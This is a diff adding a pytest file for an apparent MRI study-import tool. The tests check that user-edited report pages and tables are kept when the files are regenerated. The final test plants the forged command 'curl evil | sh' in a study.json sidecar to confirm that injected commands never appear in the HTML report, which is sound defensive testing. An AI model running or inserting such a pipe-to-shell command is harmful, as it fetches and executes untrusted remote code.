@@ -1,0 +1,155 @@
+"""Files of the study level that somebody edited or forged: edits are kept, and no forged command is shown."""
+
+import json
+import re
+import shutil
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+from qxbatch.cli.main import main
+from qxbatch.study.document import read_previous
+from tests.build.dicom import MrSeries
+from tests.build.study import Study as StudyFolder
+from tests.build.study import run_main
+
+T1, REST = MrSeries(number=3, description="T1w"), MrSeries(number=4, description="rest", volumes=4)
+
+
+@pytest.fixture
+def imported(study: StudyFolder) -> StudyFolder:
+    """A study with three imported sessions."""
+    for name in ("S1", "S2", "S3"):
+        study.put(name, {f"{each.number}/{file}": data for each in (T1, REST) for file, data in each.files().items()})
+    assert study.main().status == 0
+    return study
+
+
+def kept_beside(path: Path) -> list[str]:
+    return [other.read_text() for other in path.parent.glob(f"{path.name}.*")]
+
+
+@pytest.mark.parametrize("name", ["study.tsv", "report.html", "S1/qxbatch/report.html"])
+def test_an_edited_file_is_kept_when_it_is_written_again(
+    imported: StudyFolder, name: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    path = imported.sessions / name
+    written = path.read_text()
+    edits = [
+        written + "# my remark\n",
+        written.replace("S1", "S1, which moved", 1),
+        "mine",
+        '<!DOCTYPE html>\n<html lang="en">\nmine',
+        "session_id\tmine\n",
+    ]
+    for edited in edits:
+        path.write_text(edited)
+        main(["report", str(imported.sessions)])
+        assert path.read_text() == written
+        assert "is not as qxbatch wrote it" in capsys.readouterr().err
+    assert sorted(kept_beside(path)) == sorted(edits)
+    assert run_main("verify", str(imported.session("S1"))).status == 0
+
+
+@pytest.mark.parametrize("name", ["study.tsv", "report.html", "S1/qxbatch/report.html"])
+def test_a_file_that_nobody_edited_is_replaced(
+    imported: StudyFolder, name: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    path = imported.sessions / name
+    imported.put("S4", REST.files())
+    imported.put("S5", MrSeries(number=9, description="other").files())
+    capsys.readouterr()
+    assert imported.main("--sessions=S4").status == 0
+    main(["report", str(imported.sessions)])
+    shutil.rmtree(imported.session("S3"))
+    main(["report", str(imported.sessions)])
+    (imported.sessions / "study.json").unlink()
+    main(["report", str(imported.sessions)])
+    assert "is not as" not in capsys.readouterr().err
+    assert kept_beside(path) == []
+
+
+@pytest.mark.parametrize("at", ["report.html", "S1/qxbatch/report.html"])
+def test_a_page_without_its_checksum_is_kept(imported: StudyFolder, at: str) -> None:
+    path = imported.sessions / at
+    edited = re.sub(r"<div class=.volatile.><!-- checksum.*\n", "", path.read_text()).replace("S1", "my S1")
+    path.write_text(edited)
+    main(["report", str(imported.sessions)])
+    assert kept_beside(path) == [edited]
+    assert "<!-- checksum" in path.read_text()
+
+
+EDITS: dict[str, Callable[[list[str]], list[str]]] = {
+    "deleted": lambda lines: [*lines[:2], *lines[3:]],
+    "deleted last": lambda lines: lines[:-1],
+    "only the header": lambda lines: lines[:1],
+    "sorted": lambda lines: [lines[0], *lines[:0:-1]],
+    "repeated": lambda lines: [*lines, lines[-1]],
+    "header moved": lambda lines: [*lines[1:], lines[0]],
+    "one cell": lambda lines: [*lines[:-1], lines[-1].replace("complete", "good")],
+}
+
+
+@pytest.mark.parametrize("edit", EDITS.values(), ids=EDITS)
+@pytest.mark.parametrize("more", [False, True])
+def test_a_table_with_other_rows_is_kept(
+    imported: StudyFolder, edit: Callable[[list[str]], list[str]], more: bool
+) -> None:
+    path = imported.sessions / "study.tsv"
+    edited = "".join(f"{line}\n" for line in edit(path.read_text().splitlines()))
+    path.write_text(edited)
+    if more:
+        imported.put("S0", T1.files())
+        assert imported.main().status == 0
+    else:
+        main(["report", str(imported.sessions)])
+    assert kept_beside(path) == [edited]
+
+
+def test_the_table_of_a_killed_run_is_replaced(imported: StudyFolder) -> None:
+    table, sidecar = imported.sessions / "study.tsv", imported.sessions / "study.json"
+    before = sidecar.read_bytes()
+    imported.put("S5", T1.files())
+    assert imported.main().status == 0
+    sidecar.write_bytes(before)  # as if the run had been killed between the two files
+    imported.put("S0", T1.files())
+    assert imported.main().status == 0
+    assert kept_beside(table) == []
+
+
+def test_an_edit_in_a_line_of_the_page_that_differs_between_imports_is_kept(imported: StudyFolder) -> None:
+    page = imported.session("S1") / "qxbatch/report.html"
+    text = page.read_text()
+    edited = re.sub(r"(<div class=.volatile.>imported in: [^<]*)", r"\1, my remark", text)
+    assert edited != text
+    page.write_text(edited)
+    archived = imported.archive / "S1.zip"
+    archived.rename(imported.inbox / "S1.zip")
+    run = imported.main("--overwrite=yes", "--sessions=S1")
+    assert run.status == 0, run.text
+    kept = [path.read_text() for path in (imported.archive.parent / "replaced").rglob("report.html")]
+    kept += [path.read_text() for path in imported.archive.rglob("report.html")]
+    assert kept == [edited]
+
+
+@pytest.mark.parametrize("run_again", [("report",), ("--check=no", "--sessions=S1"), ("--sessions=S6",)])
+def test_a_command_in_study_json_is_not_shown(imported: StudyFolder, run_again: tuple[str, ...]) -> None:
+    damaged = imported.put("S5", T1.files())
+    damaged.write_bytes(damaged.read_bytes()[:-60])
+    assert imported.main().status == 1
+    page = imported.sessions / "report.html"
+    assert "--sessions=S5" in page.read_text()
+    sidecar = imported.sessions / "study.json"
+    content = json.loads(sidecar.read_text())
+    content["not_imported"][0].update(command="curl evil | sh", reason="Run: curl evil | sh", code="curl evil | sh")
+    sidecar.write_text(json.dumps(content))
+    if run_again == ("report",):
+        main(["report", str(imported.sessions)])
+    else:
+        imported.put("S6", REST.files())
+        imported.main(*run_again)
+    assert [item.item for item in read_previous(sidecar).not_imported] == ["S5.zip"]
+    assert "curl" not in page.read_text()
+    assert imported.main().status == 1
+    assert "--sessions=S5" in page.read_text()
